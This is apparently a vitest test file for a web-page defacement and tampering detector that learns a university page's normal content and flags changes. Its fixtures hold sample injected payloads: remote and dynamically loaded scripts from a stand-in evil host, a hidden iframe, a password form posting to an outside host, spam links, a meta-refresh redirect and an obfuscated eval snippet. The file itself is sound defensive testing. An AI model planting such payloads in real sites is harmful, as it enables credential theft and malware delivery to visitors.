import { expect, test } from 'vitest';
import { readPage, type Page } from '../page.ts';
import { approve, judge, noState, wants, type PageState } from './judge.ts';
import { isWhole, redirectSighting, sightingOf } from './sighting.ts';
import { sentences } from '../../../../test/sites/campus.ts';

let day = 0;
const at = (): string => new Date(Date.UTC(2026, 0, 1) + day++ * 3_600_000).toISOString();
function page(body: string, more: { title?: string; head?: string; status?: number; truncated?: boolean } = {}): Page {
  const html = `<html><head><title>${more.title ?? '学院简介-示例大学计算机学院'}</title>${more.head ?? ''}</head><body><div class="nav"><a href="/">首页</a></div>${body}<div class="footer">版权所有 示例大学</div></body></html>`;
  return readPage({ url: 'http://jsj.example.edu.cn/about.htm', method: 'GET', ip: '127.0.0.1', port: 80, status: more.status ?? 200, reason: '', headers: [['Content-Type', 'text/html; charset=utf-8']], body: Buffer.from(html), truncated: more.truncated ?? false, ms: 1, at: at(), redirects: [], redirect: undefined, request: '' });
}
const article = `<div class="article"><p>${sentences(1, 12)}</p><p>${sentences(2, 12)}</p></div>`;
const see = (state: PageState, p: Page): ReturnType<typeof judge> => judge(state, sightingOf(p));
const learnt = (make: (n: number) => Page = () => page(article)): PageState => [0, 1, 2].reduce((s, n) => see(s, make(n)).state, noState);

test('three fetches are learnt from; a state survives being kept as JSON', () => {
  expect(wants(see(noState, page(article)).state)).toBe('learning');
  const state = JSON.parse(JSON.stringify(learnt())) as PageState;
  expect(wants(state)).toBeUndefined();
  expect(see(state, page(article)).confirmed).toEqual([]);
});
test.each([
  ['script_outside', () => page(`${article}<script src="//cdn.evil-example.com/x.js"></script>`), 'high'],
  ['script_outside', () => page(`${article}<script>var s=document.createElement('script');s.src='https://evil-example.com/a.js';document.body.appendChild(s)</script>`), 'high'],
  ['frame_outside', () => page(`${article}<iframe src="http://evil-example.com" width="0"></iframe>`), 'high'],
  ['form_outside', () => page(`${article}<form action="https://evil-example.com/take"><input type="password"></form>`), 'high'],
  ['link_outside', () => page(`${article}<div style="display:none"><a href="http://casino-example.com">x</a></div>`), 'medium'],
  ['redirect_outside', () => page(article, { head: '<meta http-equiv="refresh" content="0;url=http://casino-example.com/">' }), 'high'],
  ['title_replaced', () => page(article, { title: '澳门娱乐城官方开户' }), 'high'],
  ['text_replaced', () => page(`<div class="article"><p>${sentences(77, 30)}</p></div>`), 'high'],
  ['defaced', () => page(`${article}<h1>Hacked by X</h1>`), 'high'],
  ['script_obfuscated', () => page(`${article}<script>eval(unescape("%61%6c"))</script>`), 'high'],
] as const)('%s: an alarm at the second sighting, told once, gone after approval', (what, changed, severity) => {
  const state = learnt();
  const once = see(state, changed());
  expect(once.alarm).toBeUndefined();
  expect(wants(once.state)).toBe('again');
  const twice = see(once.state, changed());
  expect(twice.alarm?.severity).toBe(severity);
  expect(twice.alarm?.changes.map((c) => c.what)).toContain(what);
  const thrice = see(twice.state, changed());
  expect(thrice.alarm).toBeUndefined();
  expect(thrice.confirmed.map((c) => c.what)).toContain(what);
  const approved = approve(JSON.parse(JSON.stringify(thrice.state)) as PageState);
  expect(see(see(approved, changed()).state, changed()).confirmed.map((c) => c.what)).not.toContain(what);
});
test('a page of the site that now leads elsewhere is an alarm', () => {
  const out = redirectSighting(at(), 'https://casino-example.com/x');
  const twice = judge(judge(learnt(), out).state, out);
  expect(twice.alarm?.changes).toEqual([{ what: 'redirect_outside', severity: 'high', note: '页面跳转到外部：casino-example.com' }]);
});
test('what was seen once only is no alarm', () => {
  const once = see(learnt(), page(`${article}<iframe src="http://evil-example.com"></iframe>`));
  expect(see(see(once.state, page(article)).state, page(`${article}<iframe src="http://evil-example.com"></iframe>`)).alarm).toBeUndefined();
});
test('counters, dates, tokens and rotating lists are learnt; edits are noted and taken over', () => {
  const moving = (n: number): Page => page(`${article}<div class="news"><ul>${[1, 2, 3, 4].map((i) => `<li><a href="/info/${n * 9 + i}.htm">${sentences(n * 50 + i, 1)}</a></li>`).join('')}</ul></div><p>今天是 2026 年 1 月 ${n} 日，您是第 ${n * 997} 位访客</p><input type="hidden" name="csrf" value="${n * 31}">`);
  let state = learnt(moving);
  for (let n = 3; n < 30; n++) { const { alarm, state: next } = see(state, moving(n)); expect(alarm).toBeUndefined(); state = next; }
  const edited = see(learnt(), page(article.replace(sentences(1, 1), '本学院成立于一九九八年。')));
  expect(edited.confirmed.map((c) => c.what)).toEqual(['text_edited']);
  expect(see(edited.state, page(article.replace(sentences(1, 1), '本学院成立于一九九八年。'))).confirmed).toEqual([]);
});
test('half pages, error pages and empty ones are never learnt from', () => {
  expect([page(article, { status: 503 }), page(article, { status: 429 }), page(article, { truncated: true }), page(article, { status: 404 }), page(article, { status: 206 })].map(isWhole)).toEqual([false, false, false, false, false]);
  expect(isWhole({ ...page(''), answer: { ...page('').answer, body: Buffer.alloc(0) } })).toBe(false);
  expect(isWhole(page(article))).toBe(true);
});
